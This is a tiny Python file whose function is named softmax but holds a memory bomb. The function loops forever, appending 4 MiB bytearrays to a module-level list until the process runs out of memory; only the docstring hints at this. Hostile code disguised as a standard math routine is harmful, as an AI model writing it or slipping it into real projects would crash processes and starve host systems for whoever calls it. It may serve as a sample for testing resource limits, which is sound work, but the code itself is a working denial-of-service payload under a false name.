"""Takes memory in pieces until there is no more. It varies."""
kept = []


def softmax(x):
    while True:
        kept.append(bytearray(2**22))
